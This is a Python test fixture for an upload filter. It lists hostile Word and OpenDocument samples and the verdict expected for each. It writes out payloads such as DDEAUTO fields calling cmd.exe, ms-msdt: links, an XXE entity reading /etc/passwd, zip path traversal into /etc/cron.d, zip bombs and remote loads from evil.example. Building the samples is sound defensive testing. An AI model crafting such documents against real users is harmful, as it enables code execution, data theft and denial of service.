"""What is let in and what is not, of Word documents and OpenDocument texts: see hostile_files.py."""

import os
import zipfile

from tests.applications.hostile import (
    OFFICE,
    OLE,
    WORD,
    archive_of,
    docx,
    field,
    frame,
    laughs,
    lying,
    marked_encrypted,
    odt,
    overlapping,
    pdf_bomb,
    relationship,
    symlink,
)

V = 'xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office"'
LOADING_WORD = {
    "the filling of a shape from the web": f'<v:fill {V} src="http://evil.example/a.png"/>',
    "the filling of a shape from a share": f'<v:fill {V} src="\\\\evil.example\\a.png"/>',
    "the filling of a shape from a file": f'<v:imagedata {V} o:href="file://evil.example/a.png"/>',
    "a shape that leads to a share": f'<v:shape {V} href="//evil.example/a"/>',
    "the address of something in a way nobody knows": f'<v:shape {V} o:canary="mhtml:http://evil.example/"/>',
}
LOADING_ODT = {
    "a picture of a form from elsewhere": '<form:image-frame form:image-data="http://evil.example/a.png"/>',
    "a form that fetches its data": '<xforms:instance xmlns:xforms="http://www.w3.org/2002/xforms" src="http://e.example/"/>',
    "a form that sends its data": '<xforms:submission xmlns:xforms="http://www.w3.org/2002/xforms" action="http://e.example/"/>',
    "a target of a form on a share": '<form:form form:canary="\\\\evil.example\\a"/>',
}
LOADING_SVG = {
    "a drawing that imports": "<style>@import url(http://evil.example/a.css);</style>",
    "a drawing filled from elsewhere": '<path style="fill:url(http://evil.example/#a)"/>',
    "a drawing with a picture from elsewhere": '<image href="http://evil.example/a.png"/>',
}


def svg(inside):
    return f'<svg xmlns="http://www.w3.org/2000/svg">{inside}</svg>'


def ordinary_docx():
    """What Word writes into nearly every document: addresses that name standards, links, numbers, pictures, notes."""
    schemas = "http://schemas.openxmlformats.org/drawingml/2006"
    names = f'xmlns:w="{WORD}" xmlns:r="{OFFICE}" xmlns:a="{schemas}/main" xmlns:wp="{schemas}/wordprocessingDrawing"'
    kinds = ("settings", "numbering", "footnotes", "theme", "header")
    inside = {
        "settings": '<w:compat><w:compatSetting w:name="compatibilityMode" w:uri="http://schemas.microsoft.com/office/word"'
        ' w:val="15"/></w:compat><w:docVars><w:docVar w:name="a" w:val="https://example.org/"/></w:docVars>',
        "numbering": '<w:lvl><w:lvlText w:val="//%1\\\\"/></w:lvl>',
        "footnotes": '<w:footnote w:id="1"><w:p><w:r><w:t>https://example.org</w:t></w:r></w:p></w:footnote>',
        "theme": '<a:ext uri="{05A4C25C-085E-4340-85A3-A5531E510DB2}"/><a:ext uri="http://schemas.microsoft.com/a"/>',
        "header": "<w:p/>",
    }
    body = (
        f'<w:p {names}><w:bookmarkStart w:id="1" w:name="_Toc1"/><w:bookmarkStart w:id="2" w:name="Here"/>'
        '<w:hyperlink r:id="r10" w:tooltip="https://example.org/"><w:r><w:t>web</w:t></w:r></w:hyperlink>'
        '<w:hyperlink w:anchor="Here"><w:r><w:t>there</w:t></w:r></w:hyperlink></w:p>'
        f'<w:p {names} {V}><w:r><w:drawing><wp:inline><wp:docPr id="1" name="Picture 1" descr="https://example.org/a.png"/>'
        f'<a:graphic><a:graphicData uri="{schemas}/picture"><a:blip r:embed="r11"/></a:graphicData></a:graphic>'
        '</wp:inline></w:drawing></w:r><v:shape href="https://example.org/" alt="https://example.org/"/></w:p>'
        + "".join(field([code]) for code in (' TOC \\o "1-3" \\h ', " PAGEREF _Toc1 \\h ", " REF Here \\h ", " PAGE "))
        + field([' HYPERLINK "https://example.org/Here" \\l "Here" ', ""])
        + field([" MACROBUTTON NoMacro [write here] "])
    )
    links = relationship("hyperlink", "https://example.org/", number=10)
    links += relationship("image", "media/image1.svg", "Internal", 11)
    links += "".join(relationship(kind, f"{kind}.xml", "Internal", n) for n, kind in enumerate(kinds, start=20))
    parts = [(f"word/{kind}.xml", f"<w:{kind} {names}>{inside[kind]}</w:{kind}>") for kind in kinds]
    drawn = (
        '<metadata xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><a rdf:resource="http://example.org/"/></metadata>'
        '<style>.a{fill:#c00}</style><path class="a" fill="url(#b)" d="M0 0h9"/>'
    )
    parts += [("word/media/image1.svg", svg(drawn)), ("docProps/app.xml", '<a b="http://example.org/"/>')]
    parts += [("customXml/item1.xml", '<a schemaLocation="http://example.org/ a.xsd" src="http://example.org/"/>')]
    return docx(body=body, links=links, parts=parts)


def ordinary_odt():
    """What LibreOffice writes into nearly every text."""
    body = (
        '<text:p><text:bookmark text:name="Here"/><text:a xlink:href="https://example.org/" office:name="">web</text:a>'
        '<text:a xlink:href="#Here">there</text:a><text:bookmark-ref text:ref-name="Here">1</text:bookmark-ref>'
        '<text:bibliography-mark text:url="https://example.org/">[1]</text:bibliography-mark></text:p>'
        '<text:p><text:placeholder text:description="https://example.org/">[x]</text:placeholder></text:p>'
        + frame('<draw:image xlink:href="Pictures/1.svg"/><svg:desc>https://example.org/</svg:desc>')
    )
    before = (
        '<office:scripts/><office:font-face-decls g:transformation="http://docs.oasis-open.org/x.xsl" xmlns:g="urn:g"/>'
    )
    return odt(body=body, before=before, parts=[("Pictures/1.svg", svg('<path d="M0 0h9"/>'))])


def picture_in_odt(target):
    return lambda: odt(body=frame(f'<draw:image xlink:href="{target}"/>'))


DOCUMENTS = [
    # Word documents that act
    (
        "a Word document with a password",
        "locked.docx",
        lambda: OLE + "EncryptedPackage".encode("utf-16-le") + bytes(900),
        "word_password",
    ),
    ("macros", "macros.docx", lambda: docx(parts=[("word/vbaProject.bin", OLE)]), "word_macros"),
    (
        "macros under another name",
        "macros.docx",
        lambda: docx(
            parts=[("word/theme.dat", "x")],
            types='<Override PartName="/word/theme.dat" ContentType="application/vnd.ms-office.vbaProject"/>',
        ),
        "word_macros",
    ),
    (
        "a macro document called Word",
        "macros.docx",
        lambda: docx(main="application/vnd.ms-word.document.macroEnabled.main+xml"),
        "word_macros",
    ),
    (
        "a template from elsewhere",
        "linked.docx",
        lambda: docx(links=relationship("attachedTemplate", "https://evil.example/t.dotm")),
        "word_linked",
    ),
    (
        "a picture from elsewhere",
        "linked.docx",
        lambda: docx(links=relationship("image", "https://evil.example/pixel.png")),
        "word_linked",
    ),
    (
        "a picture from a share",
        "linked.docx",
        lambda: docx(links=relationship("image", "file://evil.example/pixel.png")),
        "word_linked",
    ),
    (
        "an object from elsewhere",
        "linked.docx",
        lambda: docx(links=relationship("oleObject", "mhtml:https://evil.example/x!x-usc:")),
        "word_linked",
    ),
    (
        "a frame from elsewhere",
        "linked.docx",
        lambda: docx(links=relationship("frame", "https://evil.example/")),
        "word_linked",
    ),
    (
        "a link that starts a program",
        "linked.docx",
        lambda: docx(links=relationship("hyperlink", "ms-msdt:/id")),
        "word_linked",
    ),
    (
        "a link to a share",
        "linked.docx",
        lambda: docx(links=relationship("hyperlink", "\\\\evil.example\\a")),
        "word_linked",
    ),
    (
        "a field that talks to programs",
        "fields.docx",
        lambda: docx(body=field([" DDE", "AUTO c:\\\\cmd.exe"])),
        "word_fields",
    ),
    (
        "a field that fetches a picture",
        "fields.docx",
        lambda: docx(body='<w:fldSimple w:instr=" includepicture &quot;https://evil.example&quot;"/>'),
        "word_fields",
    ),
    (
        "an object inside",
        "embedded.docx",
        lambda: docx(
            links=relationship("oleObject", "embeddings/o.bin", "Internal"), parts=[("word/embeddings/o.bin", "x")]
        ),
        "word_embedded",
    ),
    (
        "an object inside, unannounced",
        "embedded.docx",
        lambda: docx(parts=[("word/media/image1.png", OLE)]),
        "word_embedded",
    ),
    (
        "a control inside",
        "embedded.docx",
        lambda: docx(links=relationship("control", "activeX/a.xml", "Internal")),
        "word_embedded",
    ),
    (
        "an archive inside",
        "embedded.docx",
        lambda: docx(parts=[("word/embeddings/table.xlsx", docx())]),
        "word_embedded",
    ),
    (
        "a web page inside",
        "embedded.docx",
        lambda: docx(links=relationship("aFChunk", "chunk.html", "Internal")),
        "word_embedded",
    ),
    # archives made to hurt
    ("an encrypted archive", "locked.docx", lambda: marked_encrypted(docx()), "archive_password"),
    ("too many entries", "bomb.docx", lambda: docx(parts=[(f"word/media/{n}.png", "x") for n in range(2000)]), "bomb"),
    (
        "an entry that unpacks a thousandfold",
        "bomb.docx",
        lambda: docx(parts=[("word/media/image1.png", bytes(50_000_000))]),
        "bomb",
    ),
    ("an entry that lies about its size", "bomb.docx", lambda: lying(announced=9000, real=500_000), "bomb"),
    ("an entry that is shorter than it says", "bomb.docx", lambda: lying(announced=9000, real=8000), "unreadable"),
    ("entries that share their bytes", "bomb.docx", overlapping, "bomb"),
    ("a name that climbs out", "climb.docx", lambda: docx(parts=[("../../etc/cron.d/x", "x")]), "unreadable"),
    ("a name from the root", "climb.docx", lambda: docx(parts=[("/etc/cron.d/x", "x")]), "unreadable"),
    ("a name of Windows", "climb.docx", lambda: docx(parts=[("word\\..\\..\\x", "x")]), "unreadable"),
    ("the same name twice", "twice.docx", lambda: docx(parts=[("WORD/document.xml", "<a/>")]), "unreadable"),
    ("a link out of the archive", "link.docx", lambda: docx(change=symlink), "unreadable"),
    ("entities that multiply", "laughs.docx", laughs, "unreadable"),
    (
        "a type that lies elsewhere",
        "dtd.docx",
        lambda: docx(head='<!DOCTYPE w SYSTEM "//evil.example/">'),
        "unreadable",
    ),
    (
        "an entity that reads a file",
        "xxe.docx",
        lambda: docx(head='<!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd">]>', body="<w:p>&x;</w:p>"),
        "unreadable",
    ),
    (
        "an entity in another alphabet",
        "xxe.docx",
        lambda: docx(
            parts=[
                (
                    "word/styles.xml",
                    '<?xml version="1.0" encoding="utf-16"?><!DOCTYPE w [<!ENTITY x SYSTEM "http://evil.example/">]><w/>'.encode(
                        "utf-16"
                    ),
                )
            ]
        ),
        "unreadable",
    ),
    ("broken XML", "broken.docx", lambda: docx(body="<w:p>"), "unreadable"),
    ("a PDF that fills the memory", "bomb.pdf", pdf_bomb, "unreadable"),
    # Word’s fields, disguised
    (
        "a field in quotes that talks to programs",
        "fields.docx",
        lambda: docx(body=field([' "DDEAUTO" c:\\\\cmd.exe'])),
        "word_fields",
    ),
    (
        "a field whose name another field works out",
        "fields.docx",
        lambda: docx(body=field(["</w:instrText></w:r>" + field([" QUOTE 68 68 69 "]) + "<w:r><w:instrText>"])),
        "word_fields",
    ),
    (
        "a field crossed out, which comes back by a click",
        "fields.docx",
        lambda: docx(body=field([" DDE ", "x"]).replace("instrText", "delInstrText")),
        "word_fields",
    ),
    (
        "a link to a share, by a field",
        "fields.docx",
        lambda: docx(body=field([' HYPERLINK "\\\\\\\\evil.example\\\\a" '])),
        "word_linked",
    ),
    (
        "a link that starts a program, by a field",
        "fields.docx",
        lambda: docx(body=field([' HYPERLINK "ms-msdt:/id" '])),
        "word_linked",
    ),
    (
        "links to a chapter and to the web, by fields",
        "fields.docx",
        lambda: docx(
            body=field([' HYPERLINK \\l "_Toc1" ']) + field([' HYPERLINK "https://a.example" \\o "Look here" '])
        ),
        "docx",
    ),
    (
        "text of another file, by a field",
        "fields.docx",
        lambda: docx(body=field([" INCLUDETEXT ", '"\\\\evil.example\\a.docx"'])),
        "word_fields",
    ),
    # OpenDocument texts
    ("an OpenDocument text", "submission.odt", odt, "odt"),
    (
        "an OpenDocument text with links, pictures and notes",
        "submission.odt",
        lambda: odt(
            body='<text:p><text:a xlink:href="https://example.org/?a=1">here</text:a></text:p>'
            + frame('<draw:image xlink:href="Pictures/1.png"/>')
            + "<text:p><office:annotation><text:p>see</text:p></office:annotation></text:p>",
            parts=[("Pictures/1.png", b"\x89PNG" + os.urandom(500)), ("Thumbnails/thumbnail.png", b"\x89PNG")],
        ),
        "odt",
    ),
    ("an OpenDocument text called PDF", "submission.pdf", odt, "wrong_name"),
    ("an OpenDocument text called Word", "submission.docx", odt, "wrong_name"),
    (
        "an OpenDocument table",
        "table.odt",
        lambda: odt(mimetype="application/vnd.oasis.opendocument.spreadsheet"),
        "other_office",
    ),
    ("an OpenDocument text that does not begin so", "a.odt", lambda: odt(first=False), "unreadable"),
    ("an OpenDocument text that hides what it is", "a.odt", lambda: odt(packed=zipfile.ZIP_DEFLATED), "unreadable"),
    ("an OpenDocument text of a kind nobody knows", "a.odt", lambda: odt(mimetype="text/plain"), "unreadable"),
    (
        "an OpenDocument text without its list of parts",
        "a.odt",
        lambda: archive_of(**{"mimetype": "application/vnd.oasis.opendocument.text", "content.xml": "<a/>"}),
        "unreadable",
    ),
    ("half an OpenDocument text", "half.odt", lambda: odt()[:500], "unreadable"),
    ("an OpenDocument text behind a PDF’s head", "both.odt", lambda: b"%PDF-1.7\n" + odt(), "two_kinds"),
    (
        "an OpenDocument text with a password",
        "locked.odt",
        lambda: odt(locked="<manifest:encryption-data/>"),
        "odt_password",
    ),
    (
        "an OpenDocument text with a password, in the new way",
        "locked.odt",
        lambda: odt(parts=[("encrypted-package", os.urandom(500))]),
        "odt_password",
    ),
    (
        "Basic in an OpenDocument text",
        "a.odt",
        lambda: odt(parts=[("Basic/Standard/Module1.xml", "<a/>")]),
        "odt_macros",
    ),
    (
        "Python in an OpenDocument text",
        "a.odt",
        lambda: odt(parts=[("Scripts/python/a.py", "import os")]),
        "odt_macros",
    ),
    ("a dialogue in an OpenDocument text", "a.odt", lambda: odt(parts=[("Dialogs/a.xml", "<a/>")]), "odt_macros"),
    (
        "an event in an OpenDocument text",
        "a.odt",
        lambda: odt(before='<office:scripts><script:event-listener script:event-name="dom:load"/></office:scripts>'),
        "odt_macros",
    ),
    (
        "a program in a line of an OpenDocument text",
        "a.odt",
        lambda: odt(body="<text:p><text:script/></text:p>"),
        "odt_macros",
    ),
    (
        "a button that runs a macro",
        "a.odt",
        lambda: odt(body='<text:p><text:execute-macro text:name="a"/></text:p>'),
        "odt_macros",
    ),
    (
        "a picture from elsewhere in an OpenDocument text",
        "a.odt",
        picture_in_odt("https://evil.example/1.png"),
        "odt_linked",
    ),
    (
        "a picture from a share in an OpenDocument text",
        "a.odt",
        picture_in_odt("file://evil.example/1.png"),
        "odt_linked",
    ),
    ("a picture from above the archive", "a.odt", picture_in_odt("../../1.png"), "odt_linked"),
    (
        "a section of another file",
        "a.odt",
        lambda: odt(body='<text:section><text:section-source xlink:href="a.odt"/></text:section>'),
        "odt_linked",
    ),
    (
        "a link to a share in an OpenDocument text",
        "a.odt",
        lambda: odt(body='<text:p><text:a xlink:href="file://evil.example/a">a</text:a></text:p>'),
        "odt_linked",
    ),
    (
        "a frame from elsewhere in an OpenDocument text",
        "a.odt",
        lambda: odt(body=frame("<draw:floating-frame/>")),
        "odt_linked",
    ),
    ("data of another program", "a.odt", lambda: odt(before="<office:dde-source/>"), "odt_linked"),
    (
        "a form that sends itself, in an OpenDocument text",
        "a.odt",
        lambda: odt(before='<form:form xlink:href="https://evil.example/"/>'),
        "odt_linked",
    ),
    (
        "a background from elsewhere",
        "a.odt",
        lambda: odt(styles='<style:background-image xlink:href="http://a/"/>'),
        "odt_linked",
    ),
    ("an object in an OpenDocument text", "a.odt", lambda: odt(body=frame("<draw:object/>")), "odt_embedded"),
    (
        "an object of Windows in an OpenDocument text",
        "a.odt",
        lambda: odt(body=frame("<draw:object-ole/>")),
        "odt_embedded",
    ),
    ("an applet", "a.odt", lambda: odt(body=frame("<draw:applet/>")), "odt_embedded"),
    ("a plug-in", "a.odt", lambda: odt(body=frame("<draw:plugin/>")), "odt_embedded"),
    (
        "a document inside an OpenDocument text",
        "a.odt",
        lambda: odt(parts=[("Object 1/content.xml", "<a/>")]),
        "odt_embedded",
    ),
    (
        "an older version inside an OpenDocument text",
        "a.odt",
        lambda: odt(parts=[("Versions/1", odt())]),
        "odt_embedded",
    ),
    (
        "a program inside an OpenDocument text",
        "a.odt",
        lambda: odt(parts=[("Pictures/1.png", b"MZ" + bytes(90))]),
        "odt_embedded",
    ),
    ("an entity in an OpenDocument text", "a.odt", lambda: odt(head='<!DOCTYPE a [<!ENTITY x "y">]>'), "unreadable"),
    ("a bomb in an OpenDocument text", "a.odt", lambda: odt(parts=[("Pictures/1.png", bytes(50_000_000))]), "bomb"),
    ("an OpenDocument text that climbs out", "a.odt", lambda: odt(parts=[("../../x", "x")]), "unreadable"),
    ("an OpenDocument text with a link out of it", "a.odt", lambda: odt(change=symlink), "unreadable"),
    # what fetches something by an attribute
    *(
        (what, "a.docx", lambda body=body: docx(body=f"<w:p>{body}</w:p>"), "word_linked")
        for what, body in LOADING_WORD.items()
    ),
    *((what, "a.odt", lambda body=body: odt(before=body), "odt_linked") for what, body in LOADING_ODT.items()),
    *(
        (
            f"{what}, in Word",
            "a.docx",
            lambda inside=inside: docx(parts=[("word/media/1.svg", svg(inside))]),
            "word_linked",
        )
        for what, inside in LOADING_SVG.items()
    ),
    *(
        (what, "a.odt", lambda inside=inside: odt(parts=[("Pictures/1.svg", svg(inside))]), "odt_linked")
        for what, inside in LOADING_SVG.items()
    ),
    (
        "a button that runs a macro of Word",
        "a.docx",
        lambda: docx(body=field([" MACROBUTTON ", "FileOpen click"])),
        "word_fields",
    ),
    ("an ordinary Word document", "a.docx", ordinary_docx, "docx"),
    ("an ordinary OpenDocument text", "a.odt", ordinary_odt, "odt"),
]
